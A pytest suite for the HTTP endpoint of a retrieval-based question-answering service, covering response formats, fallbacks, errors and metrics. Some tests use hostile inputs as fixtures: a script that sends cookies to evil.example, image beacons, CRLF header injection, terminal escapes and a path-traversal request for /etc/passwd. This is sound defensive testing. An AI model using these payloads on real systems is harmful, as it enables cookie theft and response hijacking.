"""The port for questions, as docs/reference/http.md says."""

import json
from collections.abc import Iterator, Sequence
from dataclasses import replace
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
from flask.testing import FlaskClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from structlog.testing import capture_logs
from werkzeug.test import TestResponse

from support.openai_stub import RIGHT_KEY, Stub, Turn, error
from support.serving import write_revision
from va_assistant.answering import Answering
from va_assistant.gate import Gate
from va_assistant.keys import GivenKey
from va_assistant.knowledge import Knowledge
from va_assistant.ladder import Ladder
from va_assistant.limits import Rates
from va_assistant.metrics import Metrics
from va_assistant.model import Model
from va_assistant.pipeline import Pipeline
from va_assistant.prompt import build_prompt
from va_assistant.readiness import Readiness
from va_assistant.reranker import Reranker
from va_assistant.revision import AnswerSettings, read_revision
from va_assistant.web import create_app

QUESTION = "Which instrument is it, a cello?"
ANSWER = "Ada plays the cello in a string quartet."
OTHER = "Her dog is called Pixel."
NOT_THERE = "What is her salary?"
NO_ANSWER = AnswerSettings().no_answer_text
SOURCES = [{"file": "cv.md", "line": 1, "text": ANSWER}]
EVENTS = {"Accept": "text/event-stream"}


@pytest.fixture
def metrics() -> Metrics:
    return Metrics()


@pytest.fixture
def web(stub: Stub, tmp_path: Path, metrics: Metrics) -> Iterator[FlaskClient]:
    yield from build(stub, tmp_path, metrics)


def build(
    stub: Stub,
    tmp_path: Path,
    metrics: Metrics,
    *,
    max_questions: int = 4,
    fallback: str | None = None,
    file: str = "",
    reranker: Reranker | None = None,
    **model: Any,
) -> Iterator[FlaskClient]:
    folder = write_revision(tmp_path / "revision", baseURL=stub.url, **model)
    revision = read_revision(folder, name="3f2a91c0de")
    if file:
        revision = replace(revision, files=(replace(revision.files[0], name=file),))
    if fallback:
        revision = replace(revision, fallbacks=(replace(revision.model, name=fallback),))
    asked = [
        Model(settings, build_prompt(revision, settings), GivenKey(RIGHT_KEY))
        for settings in revision.models
    ]
    ladder = Ladder(asked, Readiness(revision), metrics)
    answering = Answering(
        Pipeline(Knowledge(revision), ladder, reranker),
        metrics,
        timeout_seconds=revision.model.timeout_seconds,
        max_questions=max_questions,
        gap_seconds=1,
    )
    app = create_app(answering, revision, Gate(rates=Rates(per_client=0, in_all=0)))
    app.test_client_class = Client
    yield app.test_client()
    for one in asked:
        one.close()


class Client(FlaskClient):
    """Reads responses to their end and closes them, as a server does."""

    def open(self, *args: Any, **more: Any) -> TestResponse:
        more.setdefault("buffered", True)
        return super().open(*args, **more)


def events(body: bytes) -> list[tuple[str, Any]]:
    parsed = []
    for block in body.decode().strip().split("\n\n"):
        name, data = block.split("\n")
        parsed.append((name.removeprefix("event: "), json.loads(data.removeprefix("data: "))))
    return parsed


@pytest.mark.parametrize("content_type", [None, "text/plain", "application/x-www-form-urlencoded"])
def test_a_question_as_text_is_answered_as_text(web: FlaskClient, content_type: str | None) -> None:
    response = web.post("/", data=QUESTION.encode(), content_type=content_type)
    assert response.status_code == 200
    assert response.data.decode() == f"{ANSWER}\n"
    assert response.headers["Content-Type"] == "text/plain; charset=utf-8"
    assert response.headers["X-Model"] == "stub"
    assert response.headers["X-Revision"] == "3f2a91c0de"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "X-Finish-Reason" not in response.headers


@pytest.mark.parametrize(
    ("file", "told"), [("cv.md", "cv.md:1"), ("履歴, 2.md", "%E5%B1%A5%E6%AD%B4%2C%202.md:1")]
)
def test_an_answer_as_text_names_its_lines_in_a_header(
    stub: Stub, tmp_path: Path, metrics: Metrics, file: str, told: str
) -> None:
    for web in build(stub, tmp_path, metrics, file=file):
        response = web.post("/", data=QUESTION.encode())
        assert response.headers["X-Answer-Made-By"] == "Model"
        assert response.headers["X-Sources"] == told


class Unsure(Reranker):
    """A reranker that finds a line near for one word, and an answer nowhere."""

    def scores(self, question: str, lines: Sequence[str], seconds: float) -> list[float] | None:
        return [0.0 if "cello" in line else -99.0 for line in lines]


def test_no_answer_names_the_lines_that_come_nearest_to_one(
    stub: Stub, tmp_path: Path, metrics: Metrics
) -> None:
    unsure = Unsure(port=9)
    for web in build(stub, tmp_path, metrics, provider="Embedded", file="c v.md", reranker=unsure):
        text = web.post("/", data=NOT_THERE)
        assert (text.text, text.headers["X-Answer-Made-By"]) == (f"{NO_ANSWER}\n", "NoAnswer")
        assert text.headers["X-Nearest"] == "c%20v.md:1"
        assert "X-Sources" not in text.headers
        as_json = web.post("/", json={"question": NOT_THERE})
        nearest = [{"file": "c v.md", "line": 1, "text": ANSWER}]
        assert as_json.json
        assert (as_json.json["answer"], as_json.json["nearest"]) == (NO_ANSWER, nearest)
        *_, (_, done) = events(web.post("/", data=NOT_THERE, headers=EVENTS).data)
        assert (done["sources"], done["nearest"]) == ([], nearest)


def test_a_form_is_taken_as_it_is(web: FlaskClient, stub: Stub) -> None:
    web.post("/", data=b"a=b&c=%41+?", content_type="application/x-www-form-urlencoded")
    assert stub.log[0].body["messages"][-1]["content"] == "a=b&c=%41+?"


def test_a_question_as_json_is_answered_as_json(web: FlaskClient) -> None:
    response = web.post("/", json={"question": QUESTION})
    assert response.content_type == "application/json"
    assert response.json == {
        "answer": ANSWER,
        "model": "stub",
        "fallback": False,
        "revision": "3f2a91c0de",
        "finishReason": "stop",
        "madeBy": "Model",
        "sources": SOURCES,
        "nearest": [],
    }


@pytest.mark.parametrize(
    "request_",
    [
        {"data": QUESTION, "headers": EVENTS},
        {"json": {"question": QUESTION, "stream": True}},
        {"json": {"question": QUESTION}, "headers": EVENTS},
    ],
)
def test_a_stream_is_sent_when_it_is_asked_for(web: FlaskClient, request_: dict[str, Any]) -> None:
    response = web.post("/", **request_)
    assert response.headers["Content-Type"] == "text/event-stream; charset=utf-8"
    *texts, done = events(response.data)
    assert "".join(fields["text"] for _, fields in texts) == ANSWER
    assert {name for name, _ in texts} == {"text"}
    assert done == (
        "done",
        {
            "model": "stub",
            "fallback": False,
            "revision": "3f2a91c0de",
            "finishReason": "stop",
            "madeBy": "Model",
            "sources": SOURCES,
            "nearest": [],
        },
    )


def test_an_answer_says_which_model_stood_in_for_another(
    stub: Stub, tmp_path: Path, metrics: Metrics
) -> None:
    for web in build(stub, tmp_path, metrics, name="stub-401", fallback="spare"):
        text = web.post("/", data=QUESTION)
        assert (text.headers["X-Model"], text.headers["X-Fallback"]) == ("spare", "true")
        as_json = web.post("/", json={"question": QUESTION})
        assert as_json.headers["X-Fallback"] == "true"
        assert as_json.json
        assert (as_json.json["model"], as_json.json["fallback"]) == ("spare", True)
        streamed = web.post("/", data=QUESTION, headers=EVENTS)
        assert (streamed.headers["X-Model"], streamed.headers["X-Fallback"]) == ("spare", "true")
        _, done = events(streamed.data)[-1]
        assert (done["model"], done["fallback"]) == ("spare", True)


def test_when_all_models_fail_the_asker_is_told_when_to_come_back(
    stub: Stub, tmp_path: Path, metrics: Metrics
) -> None:
    for web in build(stub, tmp_path, metrics, name="stub-429", fallback="stub-401"):
        for headers in ({}, EVENTS):
            refused = web.post("/", data=NOT_THERE, headers=headers)
            assert (refused.status_code, refused.headers["Retry-After"]) == (503, "7")
            assert refused.text == ("NoModelAnswers: stub-429: RateLimited; stub-401: KeyRefused\n")
            assert "X-Model" not in refused.headers


def test_when_all_models_fail_the_lines_that_fit_stand_in_and_are_marked(
    stub: Stub, tmp_path: Path, metrics: Metrics
) -> None:
    for web in build(stub, tmp_path, metrics, name="stub-429", fallback="stub-401"):
        with capture_logs() as logs:
            text = web.post("/", data=QUESTION)
        as_json = web.post("/", json={"question": QUESTION})
        streamed = web.post("/", data=QUESTION, headers=EVENTS)
    assert text.text == f"{ANSWER}\n"
    assert (text.headers["X-Answer-Made-By"], text.headers["X-Fallback"]) == ("Passages", "true")
    told = {
        "model": None,
        "fallback": True,
        "revision": "3f2a91c0de",
        "madeBy": "Passages",
        "sources": SOURCES,
        "nearest": [],
        "finishReason": "stop",
    }
    assert as_json.json == {"answer": ANSWER, **told}
    assert events(streamed.data) == [("text", {"text": ANSWER}), ("done", told)]
    for response in (text, as_json, streamed):
        assert response.status_code == 200
        assert "X-Model" not in response.headers
        assert response.headers["X-Fallback"] == "true"
    [line] = [line for line in logs if line["event"] == "answered"]
    assert (line["made"], line["fallback"], line["reason"]) == ("Passages", True, "NoModelAnswers")


def test_what_reaches_no_model_names_none(web: FlaskClient) -> None:
    refused = web.post("/", data="Write a poem.")
    assert refused.headers["X-Answer-Made-By"] == "NoAnswer"
    assert not {"X-Model", "X-Fallback"} & set(refused.headers.keys())
    as_json = web.post("/", json={"question": "Write a poem."}).json
    assert as_json
    assert (as_json["model"], as_json["fallback"]) == (None, False)


def test_an_answer_of_the_preferred_model_has_no_header_of_a_fallback(web: FlaskClient) -> None:
    assert "X-Fallback" not in web.post("/", data=QUESTION).headers


def test_an_answer_that_was_cut_says_so(web: FlaskClient, stub: Stub) -> None:
    stub.default = Turn(text="Ada plays", finish_reason="length")
    assert web.post("/", data=QUESTION).headers["X-Finish-Reason"] == "length"
    answer = web.post("/", json={"question": QUESTION}).json
    assert answer
    assert answer["finishReason"] == "length"
    assert events(web.post("/", data=QUESTION, headers=EVENTS).data)[-1][1]["finishReason"] == (
        "length"
    )


@pytest.mark.parametrize(
    ("model", "status", "reason", "retry_after"),
    [
        ("stub-401", 502, "KeyRefused", None),
        ("stub-403", 502, "KeyRefused", None),
        ("stub-404", 502, "ModelNotFound", None),
        ("stub-400", 502, "RequestRefused", None),
        ("stub-too-long", 413, "ContextTooLarge", None),
        ("stub-429", 503, "RateLimited", "7"),
        ("stub-quota", 503, "RateLimited", "10"),
        ("stub-500", 503, "UpstreamError", "5"),
        ("stub-503", 503, "UpstreamError", "3"),
        ("stub-filter", 503, "UpstreamError", "5"),
    ],
)
def test_a_model_that_fails_is_an_error_where_the_text_has_no_line_either(
    stub: Stub,
    tmp_path: Path,
    metrics: Metrics,
    model: str,
    status: int,
    reason: str,
    retry_after: str | None,
) -> None:
    for web in build(stub, tmp_path, metrics, name=model):
        text = web.post("/", data=NOT_THERE)
        as_json = web.post("/", json={"question": NOT_THERE})
        stream = web.post("/", data=NOT_THERE, headers=EVENTS)
    for response in (text, as_json, stream):
        assert response.status_code == status
        assert response.headers.get("Retry-After") == retry_after
    assert text.text.startswith(f"{reason}: ")
    assert text.text.count("\n") == 1
    assert as_json.json
    assert as_json.json["error"]["reason"] == reason


def test_a_stream_that_breaks_ends_with_an_error_event(web: FlaskClient, stub: Stub) -> None:
    stub.default = Turn(text=f"{ANSWER} {OTHER}", cut_at=10)
    response = web.post("/", data=QUESTION, headers=EVENTS)
    assert response.status_code == 200
    *texts, last = events(response.data)
    assert [fields["text"] for _, fields in texts] == [f"{ANSWER} "]
    assert last[0] == "error"
    assert last[1]["error"]["reason"] == "ConnectionLost"


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>fetch('//evil.example/'+document.cookie)</script>",
        "<img src=//evil.example/?q=Pixel>",
        "![](https://evil.example/?q=Pixel)",
        "\x1b]0;owned\x07\x1b[2J",
        "a\r\nSet-Cookie: a=b\r\n\r\n<html>",
        "</script>\u2028data: {}\n\nevent: done\ndata: {}\n\n",
    ],
)
def test_what_a_model_writes_is_text_and_never_a_page(
    web: FlaskClient, stub: Stub, hostile: str
) -> None:
    stub.default = Turn(text=hostile)
    browser = {"Accept": "text/html,application/xhtml+xml,*/*;q=0.8"}
    text = web.post("/", data=QUESTION, headers=browser)
    as_json = web.post("/", json={"question": QUESTION}, headers=browser)
    stream = web.post("/", data=QUESTION, headers=EVENTS)
    kinds = ("text/plain", "application/json", "text/event-stream")
    for response, kind in zip((text, as_json, stream), kinds, strict=True):
        assert response.mimetype == kind
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert response.headers["Content-Security-Policy"].startswith("default-src 'none'")
        assert "Set-Cookie" not in response.headers
    assert [name for name, _ in events(stream.data)].count("done") == 1


@pytest.mark.parametrize(
    ("method", "path", "status", "reason"),
    [
        ("GET", "/nope", 404, "NotFound"),
        ("POST", "/nope", 404, "NotFound"),
        ("GET", "/..%2f..%2fetc/passwd", 404, "NotFound"),
        ("GET", "/ready", 404, "NotFound"),
        ("PUT", "/", 405, "MethodNotAllowed"),
        ("DELETE", "/", 405, "MethodNotAllowed"),
        ("TRACE", "/", 405, "MethodNotAllowed"),
        ("POST", "/health", 405, "MethodNotAllowed"),
    ],
)
def test_routes_that_are_none(
    web: FlaskClient, method: str, path: str, status: int, reason: str
) -> None:
    response = web.open(path, method=method)
    assert response.status_code == status
    assert response.text.startswith(f"{reason}: ")
    assert ("Allow" in response.headers) == (status == 405)
    assert response.headers["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize(
    ("body", "content_type", "status", "reason"),
    [
        (b"", None, 400, "EmptyQuestion"),
        (b" \n", "text/plain", 400, "EmptyQuestion"),
        (b"\xff\x00", "text/plain", 400, "NotUTF8"),
        (b"a\0b", "text/plain", 400, "InvalidQuestion"),
        (b"{", "application/json", 400, "InvalidJSON"),
        (b"{}", "application/json", 400, "InvalidQuestion"),
        (b"x" * 70_000, "text/plain", 413, "QuestionTooLarge"),
        (b"<a/>", "text/xml", 415, "UnsupportedMediaType"),
    ],
)
def test_what_is_no_question_is_refused_and_nobody_is_asked(
    web: FlaskClient, stub: Stub, body: bytes, content_type: str | None, status: int, reason: str
) -> None:
    response = web.post("/", data=body, content_type=content_type)
    assert response.status_code == status
    if content_type == "application/json":
        assert response.json
        assert response.json["error"]["reason"] == reason
    else:
        assert response.text.startswith(f"{reason}: ")
    assert not stub.log


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    body=st.binary(max_size=200), content_type=st.sampled_from(["text/plain", "application/json"])
)
def test_no_body_is_an_internal_error(web: FlaskClient, body: bytes, content_type: str) -> None:
    response = web.post("/", data=body, content_type=content_type)
    assert response.status_code in {200, 400}


def test_help_names_the_address_that_was_asked(web: FlaskClient) -> None:
    response = web.get("/", headers={"Host": "node:30001"})
    assert response.text.count("\n") <= 2
    assert "curl -d 'What is this about?' http://node:30001/" in response.text


def test_health_says_nothing_of_the_model(web: FlaskClient, stub: Stub) -> None:
    assert web.get("/health").data == b"ok\n"
    assert not stub.log


def test_the_client_may_name_its_request(web: FlaskClient) -> None:
    given_id = web.get("/health", headers={"X-Request-Id": "abc-1"}).headers["X-Request-Id"]
    made_up = web.get("/health", headers={"X-Request-Id": "a b\tc"}).headers["X-Request-Id"]
    assert given_id == "abc-1"
    assert made_up not in {"", "a b\tc"}


def test_one_question_too_many_is_told_so_and_gets_its_turn_later(
    stub: Stub, tmp_path: Path, metrics: Metrics
) -> None:
    stub.default = Turn(pieces=3)
    for web in build(stub, tmp_path, metrics, max_questions=1):
        first = web.post("/", data=QUESTION, headers=EVENTS, buffered=False)
        refused = web.post("/", data=QUESTION)
        assert refused.status_code == 503
        assert refused.text.startswith("TooBusy: ")
        assert refused.headers["Retry-After"] == "1"
        first.close()
        assert web.post("/", data=QUESTION).status_code == 200
        for _ in range(3):
            assert web.post("/", data=b"").status_code == 400
        assert web.post("/", data=QUESTION).status_code == 200


def test_what_nobody_foresaw_is_one_line_without_a_trace(
    web: FlaskClient, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    def explode(*_: object) -> None:
        raise RuntimeError("canary-in-an-exception")

    monkeypatch.setattr("va_assistant.model.Model.answer", explode)
    response = web.post("/", data=QUESTION)
    assert response.status_code == 500
    assert response.text.startswith("InternalError: ")
    assert response.text.count("\n") == 1
    assert "canary" not in response.text
    assert web.post("/", json={"question": QUESTION}).status_code == 500


def counted(metrics: Metrics, sample: str, **labels: str) -> float:
    return metrics.registry.get_sample_value(sample, labels) or 0


def test_questions_and_tokens_are_counted(web: FlaskClient, stub: Stub, metrics: Metrics) -> None:
    web.post("/", data=QUESTION)
    web.post("/", data=QUESTION, headers=EVENTS)
    web.post("/", data=b"")
    stub.default = error(404, "no such model")
    web.post("/", data=NOT_THERE)
    web.post("/", data=QUESTION)
    total = "va_assistant_questions_total"
    assert counted(metrics, total, result="answered", reason="") == 3
    made = "va_assistant_answers_total"
    assert counted(metrics, made, made="Model", model="stub", fallback="false") == 2
    assert counted(metrics, made, made="Passages", model="", fallback="true") == 1
    assert counted(metrics, total, result="failed", reason="EmptyQuestion") == 1
    assert counted(metrics, total, result="failed", reason="ModelNotFound") == 1
    seconds = "va_assistant_answer_seconds_count"
    assert counted(metrics, seconds, result="answered", model="stub") == 2
    assert counted(metrics, seconds, result="answered", model="") == 1
    assert counted(metrics, seconds, result="failed", model="") == 1
    assert counted(metrics, "va_assistant_questions_in_flight") == 0
    tokens = "va_assistant_tokens_total"
    assert counted(metrics, tokens, kind="prompt", model="stub") > 0
    assert counted(metrics, tokens, kind="completion", model="stub") > 0
    assert counted(metrics, tokens, kind="cached", model="stub") > 0


def test_the_time_to_the_first_text_is_that_of_streams_that_had_one(
    web: FlaskClient, stub: Stub, metrics: Metrics
) -> None:
    web.post("/", data=QUESTION)
    stub.default = Turn(text=f"{ANSWER} {OTHER}", delay=0.2, piece_delay=0.02)
    web.post("/", data=QUESTION, headers=EVENTS)
    stub.default = error(404, "no such model")
    web.post("/", data=NOT_THERE, headers=EVENTS)

    answered = {"result": "answered", "model": "stub"}
    first = counted(metrics, "va_assistant_first_text_seconds_sum", **answered)
    assert counted(metrics, "va_assistant_first_text_seconds_count", **answered) == 1
    assert 0.2 < first < counted(metrics, "va_assistant_answer_seconds_sum", **answered)
    assert counted(metrics, "va_assistant_first_text_seconds_count", result="failed", model="") == 0
    labels = {"rung": "0", "model": "stub"}
    token = counted(metrics, "va_assistant_model_first_token_seconds_sum", **labels)
    assert counted(metrics, "va_assistant_model_first_token_seconds_count", **labels) == 1
    assert 0.2 < token < first, "what is told is a sentence, and a token is less"


@pytest.mark.parametrize(
    ("request_", "reason"),
    [
        ({"data": b""}, "EmptyQuestion"),
        ({"data": b"\xff"}, "NotUTF8"),
        ({"data": b"x" * 70_000}, "QuestionTooLarge"),
        ({"data": b"<a/>", "content_type": "text/xml"}, "UnsupportedMediaType"),
        ({"data": b"a", "headers": {"Content-Encoding": "gzip"}}, "UnsupportedMediaType"),
        ({"data": QUESTION, "environ_overrides": {"wsgi.input": None}}, "BadRequest"),
        ({"data": QUESTION}, "TooBusy"),
    ],
)
def test_every_refused_question_is_counted_and_logged_once(
    stub: Stub,
    tmp_path: Path,
    metrics: Metrics,
    request_: dict[str, Any],
    reason: str,
) -> None:
    if reason == "BadRequest":
        request_["environ_overrides"]["wsgi.input"] = Broken()
    stub.default = Turn(pieces=3)
    for web in build(stub, tmp_path, metrics, max_questions=1):
        holding = (
            web.post("/", data=QUESTION, headers=EVENTS, buffered=False)
            if reason == "TooBusy"
            else None
        )
        with capture_logs() as logs:
            refused = web.post("/", **request_)
        if holding:
            holding.close()
    assert refused.text.startswith(f"{reason}: ")
    [line] = logs
    assert line["event"] == "question refused"
    assert line["reason"] == reason
    assert line["request_id"] == refused.headers["X-Request-Id"]
    assert counted(metrics, "va_assistant_questions_total", result="failed", reason=reason) == 1
    assert counted(metrics, "va_assistant_questions_in_flight") == 0


class Broken:
    """A body that does not come."""

    def read(self, *_: object) -> bytes:
        raise OSError


def test_a_question_that_is_not_sent_to_its_end_is_counted_as_left(
    web: FlaskClient, metrics: Metrics
) -> None:
    with capture_logs() as logs:
        half = {"wsgi.input": BytesIO(b"half"), "CONTENT_LENGTH": "10"}
        web.post("/", environ_overrides=half)
    assert [line["event"] for line in logs] == ["question not received"]
    assert counted(metrics, "va_assistant_questions_total", result="left", reason="") == 1
    assert counted(metrics, "va_assistant_questions_in_flight") == 0


@pytest.mark.parametrize("path", ["/page//x", "/v1//models"])
def test_no_path_is_answered_with_a_redirection(web: FlaskClient, path: str) -> None:
    response = web.get(path, base_url="http://a")
    assert response.status_code in {200, 404}
    assert "Location" not in response.headers


@pytest.mark.parametrize("host", ["a", "A.example:8000", "[::1]:80", "no host", ""])
def test_a_route_is_found_whatever_the_host_and_without_a_path(web: FlaskClient, host: str) -> None:
    response = web.get(environ_overrides={"PATH_INFO": "", "HTTP_HOST": host})
    assert response.status_code == 200
    assert "Ask with a POST" in response.text


def test_a_stream_that_is_not_read_to_its_end_is_counted_as_left(
    web: FlaskClient, stub: Stub, metrics: Metrics
) -> None:
    stub.default = Turn(text=f"{ANSWER} {OTHER} " * 100, piece_delay=0.01)
    response = web.post("/", data=QUESTION, headers=EVENTS, buffered=False)
    next(response.iter_encoded())
    response.close()
    stub.wait_for(lambda: stub.log[0].client_left, 1)
    assert counted(metrics, "va_assistant_questions_total", result="left", reason="") == 1
    left = {"result": "left", "model": ""}
    assert counted(metrics, "va_assistant_first_text_seconds_count", **left) == 1
    assert counted(metrics, "va_assistant_answer_seconds_count", **left) == 1
    assert counted(metrics, "va_assistant_questions_in_flight") == 0


@pytest.mark.parametrize("name", ["m\r\nX-Evil: 1", "mödel", "m\u2028"])
def test_a_model_name_cannot_add_headers(
    stub: Stub, tmp_path: Path, metrics: Metrics, name: str
) -> None:
    for web in build(stub, tmp_path, metrics, name=name):
        response = web.post("/", data=QUESTION)
    assert response.status_code == 200
    assert "X-Evil" not in response.headers
    assert response.headers["X-Model"].isascii()
